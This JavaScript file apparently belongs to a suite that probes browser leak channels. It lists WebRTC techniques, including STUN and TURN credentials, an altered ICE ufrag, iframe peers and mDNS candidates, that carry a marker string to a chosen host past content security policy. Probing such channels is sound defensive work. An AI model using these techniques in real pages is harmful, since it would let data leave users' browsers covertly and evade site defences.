// WebRTC, which no content security policy and no filter of requests sees.

/** A peer that offers a channel and looks for ways to be reached. */
const offer = async (Peer, configuration, media = (peer) => peer.createDataChannel('x')) => {
  const peer = new Peer(configuration);
  media(peer);
  await peer.setLocalDescription(await peer.createOffer());
  while (peer.iceGatheringState !== 'complete') await waysOut.event(peer, 'icegatheringstatechange');
};
const server = (urls) => ({ iceServers: [{ urls, username: 'what was found out', credential: 'x' }] });

/** Has a peer call an address directly; the text goes out with each try. */
const call = async ({ name, port }, kind) => {
  const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
  here.createDataChannel('x');
  await here.setLocalDescription(await here.createOffer());
  await there.setRemoteDescription(here.localDescription);
  const { sdp } = await there.createAnswer();
  const text = sdp.replace(/a=ice-ufrag:.*/, 'a=ice-ufrag:whatwasfoundout');
  await here.setRemoteDescription({ type: 'answer', sdp: text });
  await here.addIceCandidate({ candidate: `candidate:1 1 ${kind(name, port)}`, sdpMid: '0' });
  await waysOut.event(here, 'connectionstatechange');
};

waysOut.add({
  'WebRTC: its own addresses': () => offer(RTCPeerConnection, {}),
  'WebRTC: STUN': ({ host }) => offer(RTCPeerConnection, server(`stun:${host}`)),
  'WebRTC: STUN for a camera': ({ host }) =>
    offer(RTCPeerConnection, server(`stun:${host}`), (peer) => peer.addTransceiver('video')),
  'WebRTC: STUN ahead of time': ({ host }) =>
    void new RTCPeerConnection({ ...server(`stun:${host}`), iceCandidatePoolSize: 4 }),
  'WebRTC: STUN in a frame': ({ host }) =>
    offer(waysOut.element('iframe').contentWindow.RTCPeerConnection, server(`stun:${host}`)),
  'WebRTC: TURN': ({ host }) => offer(RTCPeerConnection, server(`turn:${host}?transport=udp`)),
  'WebRTC: TURN over TCP': ({ host }) => offer(RTCPeerConnection, server(`turn:${host}?transport=tcp`)),
  'WebRTC: TURN over TLS': ({ host }) => offer(RTCPeerConnection, server(`turns:${host}?transport=tcp`)),
  'WebRTC: relays only': ({ host }) =>
    offer(RTCPeerConnection, {
      ...server([`turn:${host}`, `turn:${host}?transport=tcp`]),
      iceTransportPolicy: 'relay',
    }),
  'WebRTC: a call over UDP': (place) =>
    call(place, (name, port) => `udp 2113937151 ${name} ${port} typ host`),
  'WebRTC: a call over TCP': (place) =>
    call(place, (name, port) => `tcp 2113937151 ${name} ${port} typ host tcptype passive`),
  'WebRTC: a call to a computer nearby': (place) =>
    call(place, (_name, port) => `udp 2113937151 0a1b2c3d-found-out.local ${port} typ host`),
});
